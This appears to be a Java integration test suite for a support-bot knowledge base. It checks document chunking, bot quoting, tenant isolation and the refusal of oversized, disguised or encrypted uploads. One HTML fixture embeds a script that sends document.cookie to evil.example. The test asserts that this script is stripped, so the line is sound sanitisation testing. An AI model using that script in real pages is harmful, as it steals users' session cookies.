package io.parley.knowledge;

import static org.assertj.core.api.Assertions.assertThat;

import io.parley.agent.Role;
import io.parley.knowledge.KnowledgeDesk.Visit;
import io.parley.testing.ParleyClient.Response;
import io.parley.testing.ParleyIntegrationTest;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/**
 * Documents on the embedded default (offline models): each format is read and split along its structure, its
 * chunks are found by a visitor's question and quoted by the bot with the document's title; refused files leave
 * nothing behind; another workspace neither sees nor finds them.
 */
class DocumentIntegrationTests extends ParleyIntegrationTest {

    static final String GUIDE_MD = """
            # 售后服务指南

            ## 退款

            退款申请审核通过后，我们会在1个工作日内发起退款。微信支付和支付宝一般1-3个工作日到账，银行卡3-7个工作日到账。

            ## 发票

            ### 电子发票

            订单完成后30天内，可以在“我的订单”页面申请电子发票，发票会发送到您的邮箱。
            """;
    static final String INVOICE = "订单完成后30天内，可以在“我的订单”页面申请电子发票，发票会发送到您的邮箱。";
    static final String SHIPPING_HTML = """
            <!doctype html><html><head><title>Shipping help</title>
            <script>fetch('https://evil.example/steal?c=' + document.cookie)</script><style>h1{color:red}</style></head>
            <body><h1>Shipping</h1><p>We ship to 30 countries. International orders arrive within 7 to 14 days.</p>
            <script>alert('injected')</script>
            <h2>Customs</h2><p>Customs duties and import taxes are paid by the recipient on delivery.</p>
            </body></html>""";
    static final String CUSTOMS = "Customs duties and import taxes are paid by the recipient on delivery.";

    private DocumentShelf shelf(KnowledgeDesk desk) {
        return new DocumentShelf(client(), desk.tenant().adminToken());
    }

    @Test
    void splitsMarkdownAlongItsHeadingsAndHtmlWithoutItsScripts() {
        var desk = new KnowledgeDesk(client(), newTenant(), inboxes);
        var shelf = shelf(desk);

        JsonNode guide = shelf.uploadReady("售后指南.md", GUIDE_MD);
        JsonNode shipping = shelf.uploadReady("shipping.html", SHIPPING_HTML);

        assertThat(guide.path("title").asString()).isEqualTo("售后服务指南");
        assertThat(guide.path("format").asString()).isEqualTo("markdown");
        assertThat(guide.path("chunks").asInt()).isEqualTo(2);
        var guideChunks = shelf.chunks(guide.path("id").asString());
        assertThat(guideChunks).extracting(c -> c.path("headings").toString()).containsExactly(
                "[\"售后服务指南\",\"退款\"]", "[\"售后服务指南\",\"发票\",\"电子发票\"]");
        assertThat(guideChunks).extracting(c -> c.path("position").asInt()).containsExactly(0, 1);
        assertThat(guideChunks.get(1).path("text").asString()).isEqualTo(INVOICE);
        assertThat(shipping.path("title").asString()).isEqualTo("Shipping help");
        var shippingText = shelf.chunks(shipping.path("id").asString()).stream()
                .map(c -> c.path("text").asString()).toList();
        assertThat(shippingText).containsExactly(
                "We ship to 30 countries. International orders arrive within 7 to 14 days.", CUSTOMS);
        assertThat(String.join(" ", shippingText)).doesNotContain("alert", "cookie", "color", "<");
        assertThat(shelf.list()).extracting(d -> d.path("id").asString())
                .containsExactly(shipping.path("id").asString(), guide.path("id").asString());
    }

    @Test
    void theBotQuotesTheMatchingChunkWithTheDocumentsTitle() {
        var desk = new KnowledgeDesk(client(), newTenant(), inboxes);
        var shelf = shelf(desk);
        JsonNode guide = shelf.uploadReady("guide.md", GUIDE_MD);
        JsonNode shipping = shelf.uploadReady("shipping.html", SHIPPING_HTML);
        JsonNode warranty = shelf.uploadReady("warranty.pdf", TestPdfs.text("Warranty terms",
                "Every device comes with a two-year warranty covering manufacturing defects.",
                "Accidental damage is not covered by the warranty."));

        JsonNode tried = desk.tryIt("怎么申请电子发票？");

        assertThat(tried.path("action").asString()).isEqualTo("answer");
        assertThat(tried.path("quotedDocument").asString()).isEqualTo(guide.path("id").asString());
        assertThat(tried.path("reply").asString()).isEqualTo(INVOICE + "\n\n（摘自《售后服务指南》）");
        assertThat(tried.path("candidates").get(0).path("question").asString())
                .isEqualTo("售后服务指南 › 发票 › 电子发票");
        assertThat(warranty.path("title").asString()).isEqualTo("Warranty terms");

        // no entry at all: a workspace with documents only is answered by the bot
        Visit english = desk.visit();
        desk.say(english, "who pays the customs duties on my order?");
        Visit pdf = desk.visit();
        desk.say(pdf, "how long is the warranty on a device?");

        assertThat(KnowledgeDesk.botReplies(desk.awaitBotReplies(english, 1, Duration.ofSeconds(10))))
                .containsExactly(CUSTOMS + "\n\n(From \u201cShipping help\u201d)");
        assertThat(KnowledgeDesk.botReplies(desk.awaitBotReplies(pdf, 1, Duration.ofSeconds(10))).getFirst())
                .contains("two-year warranty").endsWith("\n\n(From \u201cWarranty terms\u201d)");
        assertThat(desk.status(english)).isEqualTo("BOT");
        assertThat(shipping.path("chunks").asInt()).isEqualTo(2);
    }

    @Test
    void anEntryThatAnswersWinsOverAPassageAndEntriesAndPassagesAreRankedTogether() {
        var desk = new KnowledgeDesk(client(), newTenant(), inboxes);
        shelf(desk).uploadReady("guide.md", GUIDE_MD);
        String entry = desk.write("电子发票怎么开？", "请在“我的订单”里点击“申请发票”，我们会在24小时内开具。");

        JsonNode tried = desk.tryIt("怎么申请电子发票？");

        assertThat(tried.path("answeredFrom").asString()).isEqualTo(entry);
        assertThat(tried.path("reply").asString()).isEqualTo("请在“我的订单”里点击“申请发票”，我们会在24小时内开具。");
        assertThat(tried.path("candidates").valueStream().map(c -> c.has("chunkId") ? "chunk" : "entry"))
                .contains("chunk", "entry");
    }

    @Test
    void anotherWorkspaceNeitherSeesNorFindsTheDocument() {
        var owner = new KnowledgeDesk(client(), newTenant(), inboxes);
        String id = shelf(owner).uploadReady("guide.md", GUIDE_MD).path("id").asString();
        var other = new KnowledgeDesk(client(), newTenant(), inboxes);
        String otherToken = other.tenant().adminToken();
        other.write("营业时间是几点？", "我们的客服时间是每天9:00-18:00。");

        JsonNode tried = other.tryIt("怎么申请电子发票？");

        assertThat(tried.path("candidates").valueStream().map(c -> c.path("documentId").asString("")))
                .doesNotContain(id);
        assertThat(tried.path("action").asString()).isEqualTo("hand-over");
        assertThat(new DocumentShelf(client(), otherToken).list()).isEmpty();
        for (Response response : List.of(client().get(DocumentShelf.PATH + "/" + id, otherToken),
                client().get(DocumentShelf.PATH + "/" + id + "/chunks", otherToken),
                client().post(DocumentShelf.PATH + "/" + id + "/reprocess", otherToken, java.util.Map.of()),
                client().delete(DocumentShelf.PATH + "/" + id, otherToken))) {
            assertThat(response.status()).isEqualTo(404);
            assertThat(response.code()).isEqualTo("knowledge.document-not-found");
        }
        assertThat(shelf(owner).get(id).status()).isEqualTo(200);
    }

    @Test
    void refusesOversizedMistypedAndProtectedFilesAndStoresNothing() {
        var desk = new KnowledgeDesk(client(), newTenant(), inboxes);
        var shelf = shelf(desk);
        byte[] oversized = new byte[10 * 1024 * 1024 + 1];
        Arrays.fill(oversized, (byte) 'a');
        byte[] program = new byte[4096];
        program[0] = 'M';
        program[1] = 'Z';

        var tooLarge = shelf.upload("manual.txt", oversized);
        var renamedProgram = shelf.upload("invoice.pdf", program);
        var protectedPdf = shelf.upload("prices.pdf", TestPdfs.passwordProtected());
        var damagedPdf = shelf.upload("broken.pdf", "%PDF-1.7\n1 0 obj << /Type /Catalog >> trailer".getBytes());
        var spreadsheet = shelf.upload("prices.xlsx", "PK\u0003\u0004".getBytes());
        var gbkText = shelf.upload("说明.txt", "退款说明".getBytes(java.nio.charset.Charset.forName("GBK")));
        var agentUpload = client().upload(DocumentShelf.PATH, newAgent(desk.tenant(), Role.AGENT), "guide.md",
                GUIDE_MD.getBytes(), java.util.Map.of());

        assertThat(tooLarge.status()).isEqualTo(400);
        assertThat(tooLarge.code()).isEqualTo("knowledge.document-too-large");
        assertThat(tooLarge.body().path("detail").asString()).contains("at most 10.0 MB");
        assertThat(renamedProgram.code()).isEqualTo("knowledge.document-type-mismatch");
        assertThat(renamedProgram.body().path("detail").asString()).contains("a Windows program");
        assertThat(protectedPdf.code()).isEqualTo("knowledge.document-encrypted");
        assertThat(damagedPdf.code()).isEqualTo("knowledge.document-unreadable");
        assertThat(spreadsheet.code()).isEqualTo("knowledge.document-unsupported-type");
        assertThat(gbkText.code()).isEqualTo("knowledge.document-not-utf8");
        assertThat(agentUpload.status()).isEqualTo(403);
        assertThat(shelf.list()).as("a refused file leaves nothing behind").isEmpty();
    }

    @Test
    void aPdfWithoutTextIsMarkedAsHavingNone() {
        var desk = new KnowledgeDesk(client(), newTenant(), inboxes);

        Response scanned = shelf(desk).upload("scan.pdf", TestPdfs.withoutText());

        assertThat(scanned.status()).isEqualTo(201);
        assertThat(scanned.body().path("status").asString()).isEqualTo("no-text");
        assertThat(scanned.body().path("chunks").asInt()).isZero();
    }

    @Test
    void deletingADocumentTakesItOffTheBotAndReprocessingSplitsItAgain() {
        var desk = new KnowledgeDesk(client(), newTenant(), inboxes);
        var shelf = shelf(desk);
        String id = shelf.uploadReady("shipping.html", SHIPPING_HTML).path("id").asString();
        var before = shelf.chunks(id).stream().map(c -> c.path("id").asString()).toList();

        Response reprocessed = client().post(DocumentShelf.PATH + "/" + id + "/reprocess",
                desk.tenant().adminToken(), java.util.Map.of());
        shelf.awaitStatus(id, "ready");
        var after = shelf.chunks(id).stream().map(c -> c.path("id").asString()).toList();
        assertThat(reprocessed.status()).isEqualTo(202);
        assertThat(after).hasSize(2).doesNotContainAnyElementsOf(before);
        assertThat(desk.tryIt("who pays customs duties").path("quotedDocument").asString()).isEqualTo(id);

        Response deleted = client().delete(DocumentShelf.PATH + "/" + id, desk.tenant().adminToken());

        assertThat(deleted.status()).isEqualTo(204);
        assertThat(shelf.get(id).status()).isEqualTo(404);
        JsonNode tried = KnowledgeDesk.await(KnowledgeDesk.PATIENCE, () -> desk.tryIt("who pays customs duties"),
                reply -> reply.path("candidates").isEmpty());
        assertThat(tried.path("candidates").size()).isZero();
        assertThat(tried.path("action").asString()).isEqualTo("hand-over");
    }
}
